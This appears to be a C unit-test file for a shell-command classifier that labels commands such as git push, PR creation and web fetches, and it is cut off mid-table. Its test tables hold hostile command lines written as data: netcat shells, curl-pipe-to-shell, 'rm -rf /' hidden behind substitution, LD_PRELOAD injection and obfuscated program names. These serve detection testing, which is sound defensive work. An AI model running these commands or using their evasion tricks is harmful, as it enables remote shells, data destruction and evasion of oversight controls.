/*
 * test_classify.c - operation classification of shell strings and argv.
 *
 * The main table lists real command lines with the expected operation, the
 * exact analysis flags and every simple command.  Expected commands are
 * written as argv joined by '|', commands separated by " ; "; a command
 * without words is written as its assignments in braces ("{x=1}") or "{}".
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>
#include <jansson.h>

#include "nucleus/classify.h"
#include "nucleus/shell.h"

#define RUN NU_OP_RUN_BASH
#define PUSH NU_OP_GIT_PUSH
#define COMMIT NU_OP_GIT_COMMIT
#define FETCH NU_OP_WEB_FETCH
#define PR NU_OP_CREATE_PR

#define DYN NU_CMDF_DYNAMIC_PROGRAM
#define EVAL NU_CMDF_SHELL_EVAL
#define CODE NU_CMDF_INLINE_CODE
#define EXEC NU_CMDF_EXEC_OPTION
#define ENV NU_CMDF_DANGEROUS_ENV
#define NET NU_CMDF_NETWORK
#define BIG NU_CMDF_TOO_COMPLEX
#define BAD NU_CMDF_PARSE_ERROR
#define BG NU_CMDF_BACKGROUND

#define LONG_VALUE_64 "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"
#define LONG_VALUE LONG_VALUE_64 LONG_VALUE_64 LONG_VALUE_64 LONG_VALUE_64 \
                   LONG_VALUE_64 LONG_VALUE_64 LONG_VALUE_64 LONG_VALUE_64 \
                   LONG_VALUE_64 LONG_VALUE_64

typedef struct classify_case {
    const char *command;
    nu_op_t op;
    unsigned flags;
    const char *cmds;
} classify_case_t;

static const classify_case_t cases[] = {
    /* git operations, with global options before the subcommand */
    { "git push", PUSH, 0, "git|push" },
    { "git push origin main", PUSH, 0, "git|push|origin|main" },
    { "git -C repo push", PUSH, 0, "git|-C|repo|push" },
    { "git -c user.name=x push", PUSH, 0, "git|-c|user.name=x|push" },
    { "git --git-dir=.git --work-tree=. push -f", PUSH, 0,
      "git|--git-dir=.git|--work-tree=.|push|-f" },
    { "git --git-dir .git push", PUSH, 0, "git|--git-dir|.git|push" },
    { "git --no-pager -P push", PUSH, 0, "git|--no-pager|-P|push" },
    { "/usr/bin/git push", PUSH, 0, "/usr/bin/git|push" },
    { "git-push origin", PUSH, 0, "git-push|origin" },
    { "git send-pack remote main", PUSH, 0, "git|send-pack|remote|main" },
    { "git subtree push --prefix=d origin b", PUSH, 0,
      "git|subtree|push|--prefix=d|origin|b" },
    { "git commit -m 'fix: a b'", COMMIT, 0, "git|commit|-m|fix: a b" },
    { "git -c x=y commit -am wip", COMMIT, 0, "git|-c|x=y|commit|-am|wip" },
    { "git add -A && git commit -m x && git push", PUSH, 0,
      "git|add|-A ; git|commit|-m|x ; git|push" },
    { "git status && git diff", RUN, 0, "git|status ; git|diff" },
    { "git log --oneline | head -5", RUN, 0, "git|log|--oneline ; head|-5" },
    { "git -c alias.p=push p", PUSH, 0, "git|-c|alias.p=push|p" },
    { "git fetch origin", RUN, NET, "git|fetch|origin" },
    { "git clone https://example.org/r.git", RUN, NET,
      "git|clone|https://example.org/r.git" },
    { "'gi't push", PUSH, 0, "git|push" },
    { "\\git push", PUSH, 0, "git|push" },
    { "$'\\x67it' push", PUSH, 0, "git|push" },

    /* pull requests */
    { "gh pr create --fill", PR, NET, "gh|pr|create|--fill" },
    { "gh pr create -R o/r --title t", PR, NET, "gh|pr|create|-R|o/r|--title|t" },
    { "gh -R o/r pr create", PR, NET, "gh|-R|o/r|pr|create" },
    { "gh pr view 3", RUN, NET, "gh|pr|view|3" },
    { "hub pull-request -m x", PR, 0, "hub|pull-request|-m|x" },
    { "glab mr create --fill", PR, NET, "glab|mr|create|--fill" },
    { "gh api -X POST repos/o/r/pulls -f title=t", PR, NET,
      "gh|api|-X|POST|repos/o/r/pulls|-f|title=t" },
    { "git push && gh pr create", PUSH, NET, "git|push ; gh|pr|create" },

    /* web fetches and network clients */
    { "curl -s https://example.org", FETCH, NET, "curl|-s|https://example.org" },
    { "curl -I https://bpaste.net", FETCH, NET, "curl|-I|https://bpaste.net" },
    { "wget -q -O- http://x", FETCH, NET, "wget|-q|-O-|http://x" },
    { "http GET example.org", FETCH, NET, "http|GET|example.org" },
    { "httpie example.org", FETCH, NET, "httpie|example.org" },
    { "aria2c http://x/f", FETCH, NET, "aria2c|http://x/f" },
    { "nc -l 4444", RUN, NET, "nc|-l|4444" },
    { "nc -e /bin/sh host 1", RUN, NET | EXEC, "nc|-e|/bin/sh|host|1" },
    { "ncat --sh-exec 'id' -l 1", RUN, NET | EXEC, "ncat|--sh-exec|id|-l|1" },
    { "ncat host 80", RUN, NET, "ncat|host|80" },
    { "socat - TCP:host:80", RUN, NET, "socat|-|TCP:host:80" },
    { "ssh host ls", RUN, NET, "ssh|host|ls" },
    { "scp f host:/tmp", RUN, NET, "scp|f|host:/tmp" },
    { "rsync -a src/ host:/dst", RUN, NET, "rsync|-a|src/|host:/dst" },
    { "rsync -a src/ dst/", RUN, 0, "rsync|-a|src/|dst/" },
    { "telnet host", RUN, NET, "telnet|host" },
    { "ftp host", RUN, NET, "ftp|host" },
    { "curl x && git commit -m y", FETCH, NET, "curl|x ; git|commit|-m|y" },
    { "git commit -m y; curl x", FETCH, NET, "git|commit|-m|y ; curl|x" },

    /* interpreters with inline code */
    { "python -c 'print(1)'", RUN, CODE, "python|-c|print(1)" },
    { "python3 -c \"import os; os.system('id')\"", RUN, CODE,
      "python3|-c|import os; os.system('id')" },
    { "python3.11 -Bc pass", RUN, CODE, "python3.11|-Bc|pass" },
    { "python3 -m pytest -q", RUN, 0, "python3|-m|pytest|-q" },
    { "python3 reproduce_issue.py", RUN, 0, "python3|reproduce_issue.py" },
    { "node -e 'x'", RUN, CODE, "node|-e|x" },
    { "node -p 1+1", RUN, CODE, "node|-p|1+1" },
    { "node --eval=1", RUN, CODE, "node|--eval=1" },
    { "node server.js", RUN, 0, "node|server.js" },
    { "perl -e 'print 1'", RUN, CODE, "perl|-e|print 1" },
    { "perl -E 'say 1'", RUN, CODE, "perl|-E|say 1" },
    { "perl -pi -e 's/a/b/' f", RUN, CODE, "perl|-pi|-e|s/a/b/|f" },
    { "perl -lne 'print' f", RUN, CODE, "perl|-lne|print|f" },
    { "perl script.pl", RUN, 0, "perl|script.pl" },
    { "ruby -e 'p 1'", RUN, CODE, "ruby|-e|p 1" },
    { "ruby -rjson -e 'p 1'", RUN, CODE, "ruby|-rjson|-e|p 1" },
    { "php -r 'echo 1;'", RUN, CODE, "php|-r|echo 1;" },
    { "lua -e 'print(1)'", RUN, CODE, "lua|-e|print(1)" },
    { "lua5.4 script.lua", RUN, 0, "lua5.4|script.lua" },
    { "deno eval 'console.log(1)'", RUN, CODE, "deno|eval|console.log(1)" },
    { "Rscript -e 'q()'", RUN, CODE, "Rscript|-e|q()" },
    { "python3 - <<'EOF'\nimport os\nEOF", RUN, CODE, "python3|-" },
    { "python3 <<< 'print(1)'", RUN, CODE, "python3" },

    /* shells running strings: the string is analyzed too */
    { "bash -c 'git push'", PUSH, EVAL | CODE, "bash|-c|git push ; git|push" },
    { "sh -c \"curl x | sh\"", FETCH, EVAL | CODE | NET,
      "sh|-c|curl x | sh ; curl|x ; sh" },
    { "bash -lc 'ls'", RUN, EVAL | CODE, "bash|-lc|ls ; ls" },
    { "zsh -c ls", RUN, EVAL | CODE, "zsh|-c|ls ; ls" },
    { "bash -c \"$CMD\"", RUN, EVAL | CODE | DYN, "bash|-c|$CMD ; $CMD" },
    { "bash script.sh", RUN, 0, "bash|script.sh" },
    { "bash -x script.sh arg", RUN, 0, "bash|-x|script.sh|arg" },
    { "bash <<'EOF'\ngit push\nEOF", PUSH, EVAL | CODE, "bash ; git|push" },
    { "sh <<< 'curl x'", FETCH, EVAL | CODE | NET, "sh ; curl|x" },
    { "bash -c 'bash -c \"git push\"'", PUSH, EVAL | CODE,
      "bash|-c|bash -c \"git push\" ; bash|-c|git push ; git|push" },
    { "eval 'git push'", PUSH, EVAL, "eval|git push ; git|push" },
    { "eval \"$(ssh-agent -s)\"", RUN, EVAL | DYN,
      "ssh-agent|-s ; eval|$(ssh-agent -s) ; ssh-agent|-s ; $(ssh-agent -s)" },
    { "source venv/bin/activate", RUN, EVAL, "source|venv/bin/activate" },
    { ". ./env.sh", RUN, EVAL, ".|./env.sh" },
    { "su -c 'git push' bob", PUSH, EVAL | CODE, "su|-c|git push|bob ; git|push" },
    { "script -qc 'curl x' /dev/null", FETCH, EVAL | CODE | NET,
      "script|-qc|curl x|/dev/null ; curl|x" },
    { "coproc curl x", FETCH, NET, "coproc|curl|x ; curl|x" },
    { "trap 'curl x' EXIT", FETCH, EVAL | NET, "trap|curl x|EXIT ; curl|x" },
    { "alias g='git push'; g", PUSH, EVAL, "alias|g=git push ; git|push ; g" },

    /* pipes into shells and interpreters */
    { "curl -s https://x/install.sh | sh", FETCH, NET | EVAL,
      "curl|-s|https://x/install.sh ; sh" },
    { "curl -s x | bash -s -- -y", FETCH, NET | EVAL, "curl|-s|x ; bash|-s|--|-y" },
    { "wget -qO- x | python3", FETCH, NET | EVAL, "wget|-qO-|x ; python3" },
    { "cat script | python", RUN, EVAL, "cat|script ; python" },
    { "echo hi | python3 tool.py", RUN, 0, "echo|hi ; python3|tool.py" },

    /* programs that are not literals */
    { "$(printf rm) -rf /", RUN, DYN, "printf|rm ; $(printf rm)|-rf|/" },
    { "$x", RUN, DYN, "$x" },
    { "\"$CMD\" --flag", RUN, DYN, "$CMD|--flag" },
    { "${x} a", RUN, DYN, "${x}|a" },
    { "`echo rm` -rf /", RUN, DYN, "echo|rm ; `echo rm`|-rf|/" },
    { "/usr/bin/c*rl x", RUN, DYN, "/usr/bin/c*rl|x" },
    { "c{u,}rl x", RUN, DYN, "c{u,}rl|x" },
    { "g$'\\x69't$x push", RUN, DYN, "git$x|push" },
    { "exec $x", RUN, DYN | EVAL, "exec|$x ; $x" },
    { "git $sub", RUN, DYN, "git|$sub" },
    { "sudo $CMD", RUN, DYN, "sudo|$CMD ; $CMD" },

    /* dangerous environment, before the command and through env(1) */
    { "LD_PRELOAD=/tmp/x.so cat f", RUN, ENV, "cat|f" },
    { "PATH=/tmp/bin:$PATH ls", RUN, ENV, "ls" },
    { "GIT_SSH_COMMAND='sh -c id' git push", PUSH, ENV, "git|push" },
    { "BASH_ENV=x bash s.sh", RUN, ENV, "bash|s.sh" },
    { "ENV=x sh s.sh", RUN, ENV, "sh|s.sh" },
    { "PYTHONPATH=. python3 t.py", RUN, ENV, "python3|t.py" },
    { "GIT_CONFIG_COUNT=1 git status", RUN, ENV, "git|status" },
    { "PAGER=x git log", RUN, ENV, "git|log" },
    { "FOO=1 BAR=2 make", RUN, 0, "make" },
    { "env LD_PRELOAD=x cat", RUN, ENV, "env|LD_PRELOAD=x|cat ; cat" },
    { "env -i PATH=/x git push", PUSH, ENV, "env|-i|PATH=/x|git|push ; git|push" },
    { "env -u HOME FOO=1 ls", RUN, 0, "env|-u|HOME|FOO=1|ls ; ls" },
    { "env -S 'git push'", PUSH, EVAL, "env|-S|git push ; git|push" },
    { "env -S'git push'", PUSH, EVAL, "env|-Sgit push ; git|push" },
    { "env --split-string='git push'", PUSH, EVAL,
      "env|--split-string=git push ; git|push" },
    { "env -iS 'curl x'", FETCH, EVAL | NET, "env|-iS|curl x ; curl|x" },
    { "export LD_PRELOAD=/x.so", RUN, ENV, "export|LD_PRELOAD=/x.so" },
    { "PATH=/tmp", RUN, ENV, "{PATH=/tmp}" },
    { "x=1; y=2", RUN, 0, "{x=1} ; {y=2}" },

    /* wrappers: both views are reported */
    { "sudo git push", PUSH, 0, "sudo|git|push ; git|push" },
    { "sudo -u bob -H git push", PUSH, 0, "sudo|-u|bob|-H|git|push ; git|push" },
    { "nice -n 5 git push", PUSH, 0, "nice|-n|5|git|push ; git|push" },
    { "nohup curl x &", FETCH, NET | BG, "nohup|curl|x ; curl|x" },
    { "timeout 10 git push", PUSH, 0, "timeout|10|git|push ; git|push" },
    { "timeout -s KILL 5s curl x", FETCH, NET, "timeout|-s|KILL|5s|curl|x ; curl|x" },
    { "time git push", PUSH, 0, "time|git|push ; git|push" },
    { "stdbuf -oL curl x", FETCH, NET, "stdbuf|-oL|curl|x ; curl|x" },
    { "command git push", PUSH, 0, "command|git|push ; git|push" },
    { "command -v git", RUN, 0, "command|-v|git" },
    { "builtin eval x", RUN, EVAL, "builtin|eval|x ; eval|x ; x" },
    { "exec git push", PUSH, 0, "exec|git|push ; git|push" },
    { "ionice -c 3 git push", PUSH, 0, "ionice|-c|3|git|push ; git|push" },
    { "setsid curl x", FETCH, NET, "setsid|curl|x ; curl|x" },
    { "sudo env LD_PRELOAD=x nice git push", PUSH, ENV,
      "sudo|env|LD_PRELOAD=x|nice|git|push ; env|LD_PRELOAD=x|nice|git|push ; "
      "nice|git|push ; git|push" },
    { "xargs -0 rm < list", RUN, EXEC, "xargs|-0|rm ; rm" },
    { "find . -name '*.pyc' | xargs rm -f", RUN, EXEC,
      "find|.|-name|*.pyc ; xargs|rm|-f ; rm|-f" },
    { "watch -n 1 'curl x'", FETCH, NET, "watch|-n|1|curl x ; curl|x" },

    /* exec options */
    { "find . -exec curl {} \\;", FETCH, EXEC | NET,
      "find|.|-exec|curl|{}|; ; curl|{}" },
    { "find . -name x -delete", RUN, EXEC, "find|.|-name|x|-delete" },
    { "find . -type f -name '*.py'", RUN, 0, "find|.|-type|f|-name|*.py" },
    { "rg --pre ./x pattern", RUN, EXEC, "rg|--pre|./x|pattern" },
    { "rg -n pattern src", RUN, 0, "rg|-n|pattern|src" },
    { "sort --compress-program=x f", RUN, EXEC, "sort|--compress-program=x|f" },
    { "git -c core.sshCommand='sh -c id' fetch", RUN, EXEC | NET,
      "git|-c|core.sshCommand=sh -c id|fetch" },
    { "git -c core.pager=x log", RUN, EXEC, "git|-c|core.pager=x|log" },
    { "git -c a.a=1 -c a.b=1 -c a.c=1 -c a.d=1 -c a.e=1 -c a.f=1 -c a.g=1 "
      "-c a.h=1 -c a.i=1 -c a.j=1 -c a.k=1 -c a.l=1 -c a.m=1 -c a.n=1 "
      "-c a.o=1 -c a.p=1 -c a.q=1 -c core.pager=x log", RUN, EXEC,
      "git|-c|a.a=1|-c|a.b=1|-c|a.c=1|-c|a.d=1|-c|a.e=1|-c|a.f=1|-c|a.g=1|"
      "-c|a.h=1|-c|a.i=1|-c|a.j=1|-c|a.k=1|-c|a.l=1|-c|a.m=1|-c|a.n=1|"
      "-c|a.o=1|-c|a.p=1|-c|a.q=1|-c|core.pager=x|log" },
    { "git -c core.hooksPath=/tmp commit -m x", COMMIT, EXEC,
      "git|-c|core.hooksPath=/tmp|commit|-m|x" },
    { "git -c 'alias.x=!sh' x", RUN, EXEC, "git|-c|alias.x=!sh|x" },
    { "git config core.fsmonitor ./x", RUN, EXEC, "git|config|core.fsmonitor|./x" },
    { "git config user.name x", RUN, 0, "git|config|user.name|x" },
    { "git difftool --extcmd=x", RUN, EXEC, "git|difftool|--extcmd=x" },
    { "git rebase -x 'make' main", RUN, EXEC, "git|rebase|-x|make|main" },
    { "man -P x ls", RUN, EXEC, "man|-P|x|ls" },
    { "tar --to-command=x -xf a.tar", RUN, EXEC, "tar|--to-command=x|-xf|a.tar" },
    { "tar -I zstd -xf a.tar", RUN, EXEC, "tar|-I|zstd|-xf|a.tar" },
    { "tar -xzf a.tgz", RUN, 0, "tar|-xzf|a.tgz" },
    { "tar --checkpoint-action=exec=x -cf a .", RUN, EXEC,
      "tar|--checkpoint-action=exec=x|-cf|a|." },
    { "rsync -e 'ssh -p 2' a h:b", RUN, EXEC | NET, "rsync|-e|ssh -p 2|a|h:b" },
    { "vim -c ':!id' f", RUN, EXEC, "vim|-c|:!id|f" },
    { "ssh -o ProxyCommand=x h", RUN, EXEC | NET, "ssh|-o|ProxyCommand=x|h" },
    { "ssh -o ProxyCommand=" LONG_VALUE " h", RUN, EXEC | NET,
      "ssh|-o|ProxyCommand=" LONG_VALUE "|h" },
    { "awk 'BEGIN{system(\"id\")}'", RUN, EXEC, "awk|BEGIN{system(\"id\")}" },
    { "awk '{print $1 | \"sh\"}' f", RUN, EXEC, "awk|{print $1 | \"sh\"}|f" },
    { "awk -F: '{print $1}' /etc/passwd", RUN, 0, "awk|-F:|{print $1}|/etc/passwd" },
    { "awk '$1 > 0 || $2' f", RUN, 0, "awk|$1 > 0 || $2|f" },
    { "sed 's/x/id/e' f", RUN, EXEC, "sed|s/x/id/e|f" },
    { "sed '1e id' f", RUN, EXEC, "sed|1e id|f" },
    { "sed -n '1,10p' f", RUN, 0, "sed|-n|1,10p|f" },
    { "sed -n '/a/,/b/p' f | head -n 50", RUN, 0, "sed|-n|/a/,/b/p|f ; head|-n|50" },
    { "sed -i 's/a/b/g' f.py", RUN, 0, "sed|-i|s/a/b/g|f.py" },
    { "sed -e 's/a/b/' -e '/x/d' f", RUN, 0, "sed|-e|s/a/b/|-e|/x/d|f" },
    { "sed --sandbox 's/x/y/e' f", RUN, 0, "sed|--sandbox|s/x/y/e|f" },
    { "sed -f edit.sed f", RUN, EXEC, "sed|-f|edit.sed|f" },
    { "sed -n -e '$p' -e '/^#/d' f", RUN, 0, "sed|-n|-e|$p|-e|/^#/d|f" },
    { "sed 'y/abc/xyz/;s|a|b|g' f", RUN, 0, "sed|y/abc/xyz/;s|a|b|g|f" },
    { "awk -f prog.awk data", RUN, EXEC, "awk|-f|prog.awk|data" },
    { "gawk -v n=1 'NR==n' f", RUN, 0, "gawk|-v|n=1|NR==n|f" },
    { "sqlite3 db '.shell id'", RUN, EXEC, "sqlite3|db|.shell id" },

    /* pipelines, lists and background jobs */
    { "ls | grep x | wc -l", RUN, 0, "ls ; grep|x ; wc|-l" },
    { "a || b && c; d & e", RUN, BG, "a ; b ; c ; d ; e" },
    { "make 2>&1 | tee build.log", RUN, 0, "make ; tee|build.log" },
    { "! grep -q x f", RUN, 0, "grep|-q|x|f" },
    { "a |& b", RUN, 0, "a ; b" },
    { "a &&\nb", RUN, 0, "a ; b" },
    { "a\nb\n\nc", RUN, 0, "a ; b ; c" },

    /* compound commands */
    { "(cd sub && git push)", PUSH, 0, "cd|sub ; git|push" },
    { "{ echo a; git push; } > log", PUSH, 0, "echo|a ; git|push ; {}" },
    { "if git diff --quiet; then echo clean; else git commit -am x; fi", COMMIT, 0,
      "git|diff|--quiet ; echo|clean ; git|commit|-am|x" },
    { "if a; then b; elif c; then d; else e; fi", RUN, 0, "a ; b ; c ; d ; e" },
    { "for f in *.py; do python3 \"$f\"; done", RUN, 0, "python3|$f" },
    { "for f in $(ls); do echo $f; done", RUN, 0, "ls ; echo|$f" },
    { "for ((i=0; i<3; i++)); do echo $i; done", RUN, 0, "echo|$i" },
    { "while read l; do echo \"$l\"; done < f", RUN, 0, "read|l ; echo|$l ; {}" },
    { "until false; do sleep 1; done", RUN, 0, "false ; sleep|1" },
    { "case $1 in push) git push;; *) echo no;; esac", PUSH, 0,
      "git|push ; echo|no" },
    { "case x in (a|b) echo a;& c) echo c;;& esac", RUN, 0, "echo|a ; echo|c" },
    { "f() { curl x; }; f", FETCH, NET, "curl|x ; f" },
    { "function g { git push; }", PUSH, 0, "git|push" },
    { "[[ -f x && $(id) ]] && echo y", RUN, 0, "id ; [[|-f|x|&&|$(id)|]] ; echo|y" },
    { "(( i++ )) || true", RUN, 0, "true" },
    { "arr=(a $(id) b); echo ${arr[@]}", RUN, 0, "id ; {arr=(a $(id) b)} ; echo|${arr[@]}" },
    { "( (echo a) )", RUN, 0, "echo|a" },

    /* substitutions and redirections */
    { "echo \"$(git push)\"", PUSH, 0, "git|push ; echo|$(git push)" },
    { "echo `curl x`", FETCH, NET, "curl|x ; echo|`curl x`" },
    { "echo \"a $(echo \"b $(curl x)\")\"", FETCH, NET,
      "curl|x ; echo|b $(curl x) ; echo|a $(echo \"b $(curl x)\")" },
    { "diff <(git show HEAD:f) >(cat)", RUN, 0,
      "git|show|HEAD:f ; cat ; diff|<(git show HEAD:f)|>(cat)" },
    { "echo ${x:-$(curl y)}", FETCH, NET, "curl|y ; echo|${x:-$(curl y)}" },
    { "echo $((1 + $(wc -l < f)))", RUN, 0, "wc|-l ; echo|$((1 + $(wc -l < f)))" },
    { "x=$(git rev-parse HEAD) && echo $x", RUN, 0,
      "git|rev-parse|HEAD ; {x=$(git rev-parse HEAD)} ; echo|$x" },
    { "cat <<EOF > f.sh\ngit push\nEOF", RUN, 0, "cat" },
    { "cat <<EOF\n$(curl x)\nEOF", FETCH, NET, "curl|x ; cat" },
    { "cat <<'EOF'\n$(curl x)\nEOF", RUN, 0, "cat" },
    { "cat <<-EOF\n\tbody\n\tEOF\necho done", RUN, 0, "cat ; echo|done" },
    { "cat <<A <<B\na\nA\nb\nB\nls", RUN, 0, "cat ; ls" },
    { "cat <<EOF | sh\ngit push\nEOF", RUN, EVAL, "cat ; sh" },
    { "grep x <<< \"$(curl y)\"", FETCH, NET, "curl|y ; grep|x" },
    { "exec 3>&1 4>&-", RUN, 0, "exec" },
    { "ls > out 2> err < in", RUN, 0, "ls" },
    { "ls &> all; ls &>> all; ls >| f; ls <> f", RUN, 0, "ls ; ls ; ls ; ls" },

    /* quoting */
    { "echo 'a'\"b\"\\c", RUN, 0, "echo|abc" },
    { "echo $'a\\tb\\x41\\u00e9\\101'", RUN, 0, "echo|a\tbA\xc3\xa9" "A" },
    { "echo \"it's\" 'say \"hi\"'", RUN, 0, "echo|it's|say \"hi\"" },
    { "echo \"\\$HOME\" \\$x", RUN, 0, "echo|$HOME|$x" },
    { "echo a\\\nb", RUN, 0, "echo|ab" },
    { "echo # git push", RUN, 0, "echo" },
    { "echo a#b", RUN, 0, "echo|a#b" },
    { "echo if then fi done", RUN, 0, "echo|if|then|fi|done" },
    { "grep -rn \"def foo\" --include='*.py' .", RUN, 0,
      "grep|-rn|def foo|--include=*.py|." },

    /* invalid or oversized input */
    { "echo 'unterminated", RUN, BAD, "" },
    { "echo \"open", RUN, BAD, "" },
    { "echo $(ls", RUN, BAD, "ls" },
    { "echo `ls", RUN, BAD, "" },
    { "if true; then echo", RUN, BAD, "true ; echo" },
    { "ls | | wc", RUN, BAD, "ls" },
    { "ls &&", RUN, BAD, "ls" },
    { "fi", RUN, BAD, "" },
    { ")", RUN, BAD, "" },
    { "echo ${x", RUN, BAD, "" },
    { "case x in a) echo", RUN, BAD, "echo" },
};

static void render(const nu_cmd_analysis_t *a, char *buf, size_t size)
{
    size_t len = 0;

    buf[0] = '\0';
    for (size_t i = 0; i < a->ncmds; i++) {
        const nu_simple_cmd_t *c = &a->cmds[i];
        if (i > 0)
            len += (size_t)snprintf(buf + len, size - len, " ; ");
        if (c->argc == 0) {
            len += (size_t)snprintf(buf + len, size - len, "{");
            for (size_t j = 0; j < c->nenv; j++)
                len += (size_t)snprintf(buf + len, size - len, "%s%s",
                                        j ? "," : "", c->env[j]);
            len += (size_t)snprintf(buf + len, size - len, "}");
        }
        for (int j = 0; j < c->argc; j++)
            len += (size_t)snprintf(buf + len, size - len, "%s%s", j ? "|" : "",
                                    c->argv[j]);
        assert_true(len < size);
    }
}

static void test_classify_table(void **state)
{
    char got[4096];
    int failures = 0;

    (void)state;
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        const classify_case_t *t = &cases[i];
        nu_cmd_analysis_t a;

        assert_int_equal(nu_classify_shell(t->command, &a), NU_OK);
        render(&a, got, sizeof got);
        if (a.operation != t->op || a.flags != t->flags ||
            strcmp(got, t->cmds) != 0) {
            print_error("case %zu: %s\n  expected op %s flags %#x cmds '%s'\n"
                        "  got      op %s flags %#x cmds '%s' (%s)\n",
                        i, t->command, nu_op_name(t->op), t->flags, t->cmds,
                        nu_op_name(a.operation), a.flags, got, a.reason);
            failures++;
        }
        assert_true((a.ops & NU_OPSET(NU_OP_RUN_BASH)) != 0);
        assert_true((a.ops & NU_OPSET(a.operation)) != 0);
        nu_cmd_analysis_free(&a);
    }
    assert_int_equal(failures, 0);
}

/* Inputs that hide the program they run: each must carry a flag that the
 * policy layer denies or gates. */
static void test_classify_hidden_programs_flagged(void **state)
{
    static const char *const hidden[] = {
        "$(printf rm) -rf /", "$x", "\"$CMD\"", "${CMD} arg", "`echo rm` x",
        "$(echo git) push", "eval \"$x\"", "eval $(echo git push)",
        "bash -c \"$x\"", "sh -c \"$(curl x)\"", "curl x | sh", "curl x | bash",
        "wget -O- x | python3", "curl x | sh -s", "source ./x.sh", ". x.sh",
        "exec \"$x\"", "env $x", "sudo $x", "xargs sh -c 'x'",
        "find . -exec sh -c 'x' \\;", "/bin/c?rl x", "/bin/[c]url x",
        "c{u,}rl x", "git $cmd", "git \"$(echo push)\"", "gh $x create",
        "bash <<EOF\n$x\nEOF", "env -S \"$x\"", "trap \"$x\" EXIT",
        "LD_PRELOAD=/tmp/x.so ls", "env BASH_ENV=/tmp/x bash s",
        "builtin $x", "command $x", "nice $x", "timeout 5 $x", "time $x",
        "watch \"$x\"", "su -c \"$x\"", "python3 -c \"$x\"",
        "echo $'\\x24x' | sh",
    };
    const unsigned hiding = DYN | EVAL | CODE | EXEC | ENV;

    (void)state;
    for (size_t i = 0; i < sizeof hidden / sizeof hidden[0]; i++) {
        nu_cmd_analysis_t a;
        assert_int_equal(nu_classify_shell(hidden[i], &a), NU_OK);
        if ((a.flags & hiding) == 0)
            print_error("not flagged: %s\n", hidden[i]);
        assert_true((a.flags & hiding) != 0);
        assert_true(a.reason[0] != '\0');
        nu_cmd_analysis_free(&a);
    }
}

/* Shell syntax errors and limits must never look like harmless input. */
static void test_classify_invalid_input_flagged(void **state)
{
    static const char *const invalid[] = {
        "echo 'a", "echo \"a", "echo $(a", "echo `a", "echo ${a", "echo $'a",
        "(a", "{ a; ", "a; }", "if a; then b", "for x in a; do b", "while a",
        "case a in", "a | ", "a && ", "a || ", "a >", "a <<<", "f() ",
        "[[ a ", "(( 1 ", "done", "then", "esac", "a ;; b", "a=(b",
        "echo \"$(echo 'x)\"",
    };

    (void)state;
    for (size_t i = 0; i < sizeof invalid / sizeof invalid[0]; i++) {
        nu_cmd_analysis_t a;
        assert_int_equal(nu_classify_shell(invalid[i], &a), NU_OK);
        if ((a.flags & BAD) == 0)
            print_error("no parse error: %s\n", invalid[i]);
        assert_true(a.flags & BAD);
        assert_non_null(strstr(a.reason, "at byte"));
        nu_cmd_analysis_free(&a);
    }
}

static void test_classify_limits(void **state)
{
    nu_cmd_analysis_t a;
    size_t n = NU_SHELL_MAX_INPUT + 10;
    char *big = malloc(n + 1);

    (void)state;
    assert_non_null(big);

    /* Input over the size limit. */
    memset(big, 'a', n);
    big[n] = '\0';
    assert_int_equal(nu_classify_shell(big, &a), NU_OK);
    assert_true(a.flags & BIG);
    assert_int_equal(a.ncmds, 0);
    nu_cmd_analysis_free(&a);

    /* Too many commands. */
    size_t len = 0;
    for (int i = 0; i < NU_SHELL_MAX_COMMANDS + 5; i++)
        len += (size_t)sprintf(big + len, "a%d;", i);
    assert_int_equal(nu_classify_shell(big, &a), NU_OK);
    assert_true(a.flags & BIG);
    assert_true(a.ncmds <= NU_SHELL_MAX_COMMANDS);
    nu_cmd_analysis_free(&a);

    /* Nesting of subshells, substitutions and shell strings. */
    static const char *const opens[] = { "( ", "echo $(", "{ ", "echo \"$(",
                                         "echo ${x:-" };
    static const char *const closes[] = { " )", ")", "; }", ")\"", "}" };
    for (size_t k = 0; k < 5; k++) {
        len = 0;
        for (int i = 0; i < 200; i++)
            len += (size_t)sprintf(big + len, "%s", i == 0 || k % 2 == 0 ? opens[k] : opens[k] + 5);
        len += (size_t)sprintf(big + len, "git push");
        for (int i = 0; i < 200; i++)
            len += (size_t)sprintf(big + len, "%s", closes[k]);
        assert_int_equal(nu_classify_shell(big, &a), NU_OK);
        assert_true(a.flags & BIG);
        nu_cmd_analysis_free(&a);
    }

    /* eval inside eval, past the depth limit: each level parses again. */
    len = 0;
    for (int i = 0; i < NU_SHELL_MAX_DEPTH + 2; i++)
        len += (size_t)sprintf(big + len, "eval ");
    sprintf(big + len, "git push");
    assert_int_equal(nu_classify_shell(big, &a), NU_OK);
    assert_true(a.flags & BIG);
    nu_cmd_analysis_free(&a);

    /* Too many words in one command. */
    len = (size_t)sprintf(big, "echo");
    for (int i = 0; i < NU_SHELL_MAX_WORDS + 2; i++)
        len += (size_t)sprintf(big + len, " w");
    assert_int_equal(nu_classify_shell(big, &a), NU_OK);
    assert_true(a.flags & BIG);
    nu_cmd_analysis_free(&a);

    free(big);
}

static const nu_redirect_t *find_redirect(const nu_cmd_analysis_t *a,
                                          const char *target)
{
    for (size_t i = 0; i < a->ncmds; i++) {
        for (size_t j = 0; j < a->cmds[i].nredirects; j++) {
            if (strcmp(a->cmds[i].redirects[j].target, target) == 0)
                return &a->cmds[i].redirects[j];
        }
    }
    return NULL;
}

static void test_classify_redirect_targets(void **state)
{
    static const struct {
        const char *command;
        const char *target;
        int write;
        int dynamic;
    } cases_r[] = {
        { "echo x > .bashrc", ".bashrc", 1, 0 },
        { "echo x >> ~/.profile", "~/.profile", 1, 0 },
        { "echo x >| f", "f", 1, 0 },
        { "cat < in.txt", "in.txt", 0, 0 },
        { "exec 3<> rw", "rw", 1, 0 },
        { "make &> log", "log", 1, 0 },
        { "make &>> log", "log", 1, 0 },
        { "make >& log", "log", 1, 0 },
        { "make 2> err.txt", "err.txt", 1, 0 },
        { "echo x > \"$F\"", "$F", 1, 1 },
        { "echo x > out-*.txt", "out-*.txt", 1, 1 },
        { "{ a; } > grp", "grp", 1, 0 },
        { "while a; do b; done < lines", "lines", 0, 0 },
        { "echo x | tee -a .git/hooks/pre-commit", ".git/hooks/pre-commit", 1, 0 },
        { "sed -i 's/a/b/' Makefile", "Makefile", 1, 0 },
